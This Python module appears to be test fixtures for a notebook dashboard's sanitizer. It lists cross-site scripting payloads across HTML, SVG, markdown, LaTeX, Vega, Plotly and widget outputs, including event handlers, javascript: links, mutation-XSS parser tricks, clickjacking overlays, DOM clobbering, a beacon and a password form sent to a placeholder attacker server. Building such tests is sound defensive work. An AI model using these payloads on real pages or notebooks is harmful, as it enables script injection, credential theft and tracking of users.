"""What a hostile author would put into a notebook. `{home}` stands for the author's own web server."""

from __future__ import annotations

from typing import Any

BAD = "window.pwned=1;document.title='pwned';new Image().src='{home}/beacon'"

HTML = {
    "script": f"<script>{BAD}</script>",
    "module": f"<script type=module>{BAD}</script>",
    "file": "<script src='evil.js'></script><script type=module src='evil.js'></script>",
    "remote file": "<script src='{home}/evil.js'></script>",
    "handler": f'<img src=nothing.png onerror="{BAD}"><p onclick="{BAD}" onmouseover="{BAD}">x</p>',
    "link": f'<a href="javascript:{BAD}">x</a><a href="java&#10;script:{BAD}">x</a><a href="data:text/html,x">x</a>',
    "svg": f'<svg width=9 height=9><script>{BAD}</script><a xlink:href="javascript:{BAD}"><rect width=9 height=9 /></a></svg>',
    "svg load": f'<svg onload="{BAD}"><animate attributeName=href values="javascript:{BAD}"/></svg>',
    "svg use": "<svg><use href='evil.svg#x'/><image href='{home}/image.png'/><foreignObject><iframe src='{home}/frame'></iframe></foreignObject></svg>",
    "frame": f'<iframe srcdoc="<script>parent.window.pwned=1</script>"></iframe><iframe src="javascript:{BAD}"></iframe>',
    "frame of a file": "<iframe src='evil.html'></iframe><object data='evil.html'></object><embed src='evil.html'>",
    "form": f"<form action='{{home}}/form'><input name=password value=x><button>x</button><button formaction=\"javascript:{BAD}\">x</button></form>",
    "refresh": "<meta http-equiv=refresh content='0;url={home}/refresh'>",
    "base": "<base href='{home}/base/'><img src=relative.png>",
    "sheet": "<style>@import url({home}/sheet.css); body{background:url({home}/sheet.png)} .dash-bar{display:none}</style>",
    "linked sheet": "<link rel=stylesheet href='{home}/linked.css'><link rel=stylesheet href='evil.css'>",
    "cover": "<div style='position:fixed;inset:0;z-index:99;background:red;opacity:.01'>x</div>",
    "cover by class": "<style>.lid{margin:-900px;padding:900px;width:9000px}</style><div class='lid dash-bar dash-alert'>x</div>",
    "names": "<img name=currentScript src=x.png><form id=dash-config name=dashEarly></form><p id=dash-main>x</p><p id=dash-alert>x</p><a id=_JUPYTERLAB>x</a>",
    "parsers": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={BAD}&gt;">',
    "comment": f'<!--><img src=x onerror="{BAD}">--><noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
}


def bundles(home: str) -> dict[str, dict[str, Any]]:
    """MIME bundles, by what they try."""
    bad = BAD.replace("{home}", home)
    html = {name: text.replace("{home}", home) for name, text in HTML.items()}
    every = "\n".join(html.values())
    exec_type = "application/vnd.bokehjs_exec.v0+json"
    vega = {
        "$schema": "https://vega.github.io/schema/vega/v5.json",
        "width": 90,
        "height": 30,
        "usermeta": {"embedOptions": {"defaultStyle": ".dash-bar{display:none}", "actions": True}},
        "signals": [{"name": "asked", "bind": {"input": "range", "element": "#dash-status"}}],
        "data": [{"name": "rows", "url": f"{home}/rows.json"}],
        "marks": [
            {
                "type": "rect",
                "encode": {
                    "enter": {
                        "width": {"value": 90},
                        "height": {"value": 30},
                        "href": {"value": f"javascript:{bad}"},
                    }
                },
            },
            {"type": "image", "encode": {"enter": {"url": {"value": f"{home}/vega.png"}}}},
        ],
    }
    # These would call a function of the window's, if the language had a way to.
    calls = [
        {
            **vega,
            "signals": [{"name": "caught", "on": [{"events": "click", "update": text}]}],
        }
        for text in (
            "'' + {toString: event.view.pwn}",
            "+{valueOf: event.view.pwn}",
            "event.view.pwn()",
            "event.view['pwn'](1)",
            "replace('a', 'a', event.view.pwn)",
            "split({split: event.view.pwn}, 'a')",
        )
    ]
    plotly = {
        "data": [{"type": "bar", "x": ["a"], "y": [1]}],
        "layout": {
            "title": {
                "text": f'<a href="javascript:{bad}">x</a><img src=x onerror="window.pwned=1">'
            },
            "images": [{"source": f"{home}/plotly.png"}],
        },
        "config": {"plotlyServerURL": home, "showSendToCloud": True, "displayModeBar": True},
    }
    return {
        **{name: {"text/html": text} for name, text in html.items()},
        "markdown": {"text/markdown": f"*text*\n\n{every}\n\n[x](javascript:window.pwned=1)"},
        "latex": {"text/latex": f"$\\href{{javascript:{bad}}}{{x}}$ {html['handler']}"},
        "svg document": {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script>{bad}</script><image href='{home}/svg.png'/></svg>"},
        "javascript": {"application/javascript": bad, "text/plain": "<Javascript>"},
        "bokeh": {exec_type: "", "application/javascript": bad},
        "vega": {"application/vnd.vega.v5+json": vega},
        **{f"vega {number}": {"application/vnd.vega.v5+json": call} for number, call in enumerate(calls)},
        "plotly": {"application/vnd.plotly.v1+json": plotly},
    }  # fmt: skip


def widgets(home: str) -> list[str]:
    """Sources of cells that show widgets with a hostile trait."""
    every = repr("\n".join(HTML.values()).replace("{home}", home))
    bad = BAD.replace("{home}", home)
    return [
        f"import ipywidgets as w\nevery = {every}\nw.HTML(every)",
        "w.HTMLMath(every, description=every, description_allow_html=True)",
        "w.VBox([w.Label(every), w.ToggleButtons(options=[every[:90]]), w.Checkbox(description=every, description_allow_html=True)])",
        "box = w.Accordion([w.HTML(every)], titles=[every[:90]], selected_index=0)\nbox.add_class('dash-bar')\nbox",
        "from IPython.display import HTML\nout = w.Output()\nwith out:\n    display(HTML(every))\nlate = w.HTML('early')\ndisplay(out, late)\nlate.value = every",
        "w.HTML(_view_module='@jupyter-widgets/base', _view_name='ErrorWidgetView')",
        f"""import anywidget, traitlets
class Evil(anywidget.AnyWidget):
    _esm = '''import "./evil.js"; import "/dashboards/evil.js";
{bad}
export default {{ render() {{ {bad} }} }}'''
    _css = '.dash-bar {{ display: none }} @import url({home}/anywidget.css);'
Evil()""",
    ]
